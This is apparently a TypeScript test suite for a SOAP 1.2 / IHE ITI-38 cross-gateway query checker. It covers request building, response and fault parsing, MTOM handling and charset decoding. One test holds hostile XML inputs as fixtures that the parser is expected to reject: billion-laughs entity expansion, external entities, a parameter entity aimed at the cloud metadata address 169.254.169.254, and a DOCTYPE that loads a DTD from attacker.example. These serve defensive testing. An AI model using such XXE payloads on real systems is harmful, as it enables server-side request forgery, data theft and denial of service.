import assert from "node:assert/strict";
import { test } from "node:test";
import {
  buildIti38Request,
  extractSoapText,
  ITI38,
  NS,
  parseIti38Request,
  parseSoapResponse,
  parseXmlSafely,
  REGISTRY_STATUS,
  toPatientCx,
} from "@/lib/checker/soap";
import {
  adhocQueryResponse,
  billionLaughs,
  DEMO_HOME_COMMUNITY_ID,
  DEMO_REPOSITORY_ID,
  DEMO_UIDS,
  demoDocumentEntries,
  externalEntity,
  faultEnvelope,
  mtomMessage,
  queryResponseEnvelope,
} from "@/lib/checker/simulator/responses";

const MSG = "urn:uuid:0d3c7c9e-3b59-4a5e-9d0e-6d8d4b7c1a11";
const SOAP_CT = `application/soap+xml; charset=utf-8; action="${ITI38.responseAction}"`;
const buf = (s: string) => Buffer.from(s, "utf8");

test("toPatientCx: BSN becomes CX with the BSN authority; CX is kept; junk is refused", () => {
  assert.equal(toPatientCx("999990019"), "999990019^^^&2.16.840.1.113883.2.4.6.3&ISO");
  assert.equal(toPatientCx("'999990019^^^&2.16.840.1.113883.2.4.6.3&ISO'"), "999990019^^^&2.16.840.1.113883.2.4.6.3&ISO");
  for (const bad of ["12345", "abc", "999990019^^^&x&ISO", ""]) assert.throws(() => toPatientCx(bad), bad);
});

test("query-mode request: SOAP 1.2, WS-A headers, FindDocuments with the CX patient", () => {
  const xml = buildIti38Request({ mode: "query", to: "https://gw.example.nl/xca?a=1&b=2", messageId: MSG, patientId: "999990019", homeCommunityId: "urn:oid:1.2.3" });
  const parsed = parseIti38Request(xml);
  assert.ok(parsed.ok);
  assert.deepEqual(parsed.request, {
    action: ITI38.action,
    messageId: MSG,
    to: "https://gw.example.nl/xca?a=1&b=2",
    storedQueryId: "urn:uuid:14d4debf-8f97-4251-9a74-a90016b0af0d",
    patientId: "999990019^^^&2.16.840.1.113883.2.4.6.3&ISO",
    hasSecurityHeader: false,
  });
  assert.match(xml, /<wsa:Action env:mustUnderstand="true">urn:ihe:iti:2007:CrossGatewayQuery<\/wsa:Action>/);
  assert.match(xml, /<wsa:ReplyTo><wsa:Address>http:\/\/www.w3.org\/2005\/08\/addressing\/anonymous<\/wsa:Address><\/wsa:ReplyTo>/);
  assert.match(xml, /home="urn:oid:1.2.3"/);
  assert.doesNotMatch(xml, /Security/);
});

test("transport-mode request carries no patient and no security header", () => {
  const xml = buildIti38Request({ mode: "transport", to: "https://gw.example.nl/xca", messageId: MSG, patientId: "999990019" });
  const parsed = parseIti38Request(xml);
  assert.ok(parsed.ok);
  assert.equal(parsed.request.patientId, null);
  assert.equal(parsed.request.hasSecurityHeader, false);
  assert.doesNotMatch(xml, /999990019/);
  assert.throws(() => buildIti38Request({ mode: "query", to: "x", messageId: MSG }), /test patient/);
});

test("Success response with the demo KOS and report", () => {
  const cx = toPatientCx("999990019");
  const facts = parseSoapResponse(SOAP_CT, buf(queryResponseEnvelope(MSG, adhocQueryResponse({ status: "Success", objects: demoDocumentEntries(cx) }))));
  assert.deepEqual(facts, {
    kind: "envelope",
    action: ITI38.responseAction,
    relatesTo: MSG,
    fault: null,
    registry: { status: REGISTRY_STATUS.Success, outcome: "Success", errors: [], documentCount: 2 },
    payload: "query",
    // What a retrieve of each entry needs (issue 15: the query-mode chain).
    entries: [
      { homeCommunityId: DEMO_HOME_COMMUNITY_ID, repositoryUniqueId: DEMO_REPOSITORY_ID, uniqueId: DEMO_UIDS.kos, mimeType: "application/dicom" },
      { homeCommunityId: DEMO_HOME_COMMUNITY_ID, repositoryUniqueId: DEMO_REPOSITORY_ID, uniqueId: DEMO_UIDS.report, mimeType: "application/pdf" },
    ],
  });
});

test("PartialSuccess and Failure carry their RegistryErrors", () => {
  const partial = parseSoapResponse(
    SOAP_CT,
    buf(queryResponseEnvelope(MSG, adhocQueryResponse({ status: "PartialSuccess", errors: [{ errorCode: "XDSUnavailableCommunity", codeContext: "PACS-2", severity: "Warning", location: "urn:oid:9" }] }))),
  );
  assert.equal(partial.kind, "envelope");
  assert.equal(partial.kind === "envelope" && partial.registry?.outcome, "PartialSuccess");
  assert.deepEqual(partial.kind === "envelope" && partial.registry?.errors, [
    { errorCode: "XDSUnavailableCommunity", codeContext: "PACS-2", severity: "urn:oasis:names:tc:ebxml-regrep:ErrorSeverityType:Warning", location: "urn:oid:9" },
  ]);
  const failure = parseSoapResponse(SOAP_CT, buf(queryResponseEnvelope(MSG, adhocQueryResponse({ status: "Failure", errors: [{ errorCode: "XDSUnknownPatientId", codeContext: "onbekend" }] }))));
  assert.equal(failure.kind === "envelope" && failure.registry?.outcome, "Failure");
  assert.equal(failure.kind === "envelope" && failure.registry?.errors[0].errorCode, "XDSUnknownPatientId");
});

test("faults: code resolved through whatever prefix the gateway uses", () => {
  const variants: Array<[string, string]> = [
    [faultEnvelope({ code: "Sender", subcode: "wsse:InvalidSecurity", reason: "geen security", relatesTo: MSG }), "Sender"],
    [faultEnvelope({ code: "Receiver", reason: "intern", relatesTo: null }), "Receiver"],
    [
      `<S:Envelope xmlns:S="${NS.soap12}"><S:Body><S:Fault><S:Code><S:Value>S:Sender</S:Value></S:Code><S:Reason><S:Text xml:lang="en">bad</S:Text></S:Reason></S:Fault></S:Body></S:Envelope>`,
      "Sender",
    ],
    [
      `<Envelope xmlns="${NS.soap12}"><Body><Fault><Code><Value xmlns:e="${NS.soap12}">e:Receiver</Value></Code><Reason><Text xml:lang="en">oops</Text></Reason></Fault></Body></Envelope>`,
      "Receiver",
    ],
    [
      `<soap:Envelope xmlns:soap="${NS.soap12}"><soap:Body><soap:Fault><soap:Code><soap:Value>soap:MustUnderstand</soap:Value></soap:Code></soap:Fault></soap:Body></soap:Envelope>`,
      "MustUnderstand",
    ],
    // A prefix bound to another namespace is not the SOAP Sender.
    [
      `<soap:Envelope xmlns:soap="${NS.soap12}" xmlns:x="urn:other"><soap:Body><soap:Fault><soap:Code><soap:Value>x:Sender</soap:Value></soap:Code></soap:Fault></soap:Body></soap:Envelope>`,
      "x:Sender",
    ],
  ];
  for (const [xml, code] of variants) {
    const facts = parseSoapResponse(SOAP_CT, buf(xml));
    assert.equal(facts.kind, "envelope");
    assert.equal(facts.kind === "envelope" && facts.fault?.code, code, xml);
  }
  const first = parseSoapResponse(SOAP_CT, buf(variants[0][0]));
  assert.deepEqual(first.kind === "envelope" && first.fault, { code: "Sender", subcodes: ["wsse:InvalidSecurity"], reason: "geen security" });
  assert.equal(first.kind === "envelope" && first.relatesTo, MSG);
});

test("not SOAP: HTML, SOAP 1.1, plain XML, broken XML, empty body, undefined entity", () => {
  const cases: Array<[string | null, string, RegExp]> = [
    ["text/html", "<!doctype html><html><body>hi</body></html>", /HTML/],
    ["text/xml", `<soap:Envelope xmlns:soap="${NS.soap11}"><soap:Body/></soap:Envelope>`, /SOAP 1\.1/],
    ["application/xml", "<hello/>", /not a SOAP 1\.2 Envelope/],
    [SOAP_CT, `<env:Envelope xmlns:env="${NS.soap12}"><env:Body>`, /not well-formed/],
    [SOAP_CT, "", /empty/],
    [SOAP_CT, `<env:Envelope xmlns:env="${NS.soap12}"><env:Header/></env:Envelope>`, /without Body/],
    [SOAP_CT, `<env:Envelope xmlns:env="${NS.soap12}"><env:Body>&lol9;</env:Body></env:Envelope>`, /not well-formed/],
    [SOAP_CT, "this is not xml", /not well-formed/],
  ];
  for (const [ct, body, detail] of cases) {
    const facts = parseSoapResponse(ct, buf(body));
    assert.equal(facts.kind, "not_soap", body);
    assert.match(facts.kind === "not_soap" ? facts.detail : "", detail, body);
  }
});

test("hostile XML is refused before parsing: billion laughs, XXE, parameter entities, DOCTYPE in any case", () => {
  const payloads = [
    billionLaughs(),
    externalEntity(),
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://169.254.169.254/"> %p;]><x/>`,
    `<?xml version="1.0"?><!doctype env:Envelope SYSTEM "http://attacker.example/x.dtd"><env:Envelope xmlns:env="${NS.soap12}"><env:Body/></env:Envelope>`,
    `<env:Envelope xmlns:env="${NS.soap12}"><env:Body><!ENTITY x "y"></env:Body></env:Envelope>`,
  ];
  for (const p of payloads) {
    const facts = parseSoapResponse(SOAP_CT, buf(p));
    assert.equal(facts.kind, "unsafe", p);
  }
  // Also inside an MTOM root part.
  const m = mtomMessage(billionLaughs());
  assert.equal(parseSoapResponse(m.contentType, m.body).kind, "unsafe");
});

test("billion laughs is refused quickly and without growing memory", () => {
  const before = process.memoryUsage().heapUsed;
  const started = performance.now();
  for (let i = 0; i < 200; i++) assert.equal(parseXmlSafely(billionLaughs()).ok, false);
  assert.ok(performance.now() - started < 2000);
  assert.ok(process.memoryUsage().heapUsed - before < 50 * 1024 * 1024);
});

test("absurd nesting is refused as unsafe", () => {
  const deep = `<env:Envelope xmlns:env="${NS.soap12}"><env:Body>${"<a>".repeat(500)}${"</a>".repeat(500)}</env:Body></env:Envelope>`;
  assert.equal(parseSoapResponse(SOAP_CT, buf(deep)).kind, "unsafe");
});

test("MTOM/XOP: the root part named by start is read, attachments ignored", () => {
  const env = queryResponseEnvelope(MSG, adhocQueryResponse({ status: "Success" }));
  const m = mtomMessage(env);
  const facts = parseSoapResponse(m.contentType, m.body);
  assert.equal(facts.kind, "envelope");
  assert.equal(facts.kind === "envelope" && facts.registry?.outcome, "Success");
  assert.equal(facts.kind === "envelope" && facts.relatesTo, MSG);
});

test("MTOM/XOP: start pointing at a later part, LF-only line breaks, no start parameter", () => {
  const env = queryResponseEnvelope(MSG, adhocQueryResponse({ status: "PartialSuccess" }));
  const body = buf(
    [
      "preamble",
      "--b1",
      "Content-Type: application/octet-stream",
      "Content-ID: <att>",
      "",
      "binary",
      "--b1",
      'Content-Type: application/xop+xml; charset=UTF-8; type="application/soap+xml"',
      "Content-ID: <root@x>",
      "",
      env,
      "--b1--",
      "",
    ].join("\n"),
  );
  const withStart = extractSoapText(`multipart/related; boundary=b1; start="<root@x>"; type="application/xop+xml"`, body);
  assert.ok(withStart.ok && withStart.multipart);
  assert.equal(withStart.ok && withStart.text, env);
  const noStart = extractSoapText("multipart/related; boundary=b1", body);
  assert.equal(noStart.ok && noStart.text, "binary");
  assert.deepEqual(extractSoapText("multipart/related; type=x", body), { ok: false, detail: "multipart/related without boundary" });
  const facts = parseSoapResponse(`multipart/related; boundary="b1"; start="<root@x>"`, body);
  assert.equal(facts.kind === "envelope" && facts.registry?.outcome, "PartialSuccess");
});

test("charset: UTF-8 with BOM and ISO-8859-1 bodies are decoded", () => {
  const env = queryResponseEnvelope(MSG, adhocQueryResponse({ status: "Success" })).replace('encoding="UTF-8"', 'encoding="ISO-8859-1"');
  const withBom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), buf(env)]);
  assert.equal(parseSoapResponse(SOAP_CT, withBom).kind, "envelope");
  const latin = Buffer.from(env.replace("<env:Body>", "<env:Body><!-- café -->"), "latin1");
  assert.equal(parseSoapResponse("application/soap+xml; charset=ISO-8859-1", latin).kind, "envelope");
});

test("WS-A headers in another namespace are not ours", () => {
  const xml = `<env:Envelope xmlns:env="${NS.soap12}" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing"><env:Header><a:Action>${ITI38.responseAction}</a:Action><a:RelatesTo>${MSG}</a:RelatesTo></env:Header><env:Body/></env:Envelope>`;
  const facts = parseSoapResponse(SOAP_CT, buf(xml));
  assert.equal(facts.kind === "envelope" && facts.action, null);
  assert.equal(facts.kind === "envelope" && facts.relatesTo, null);
});
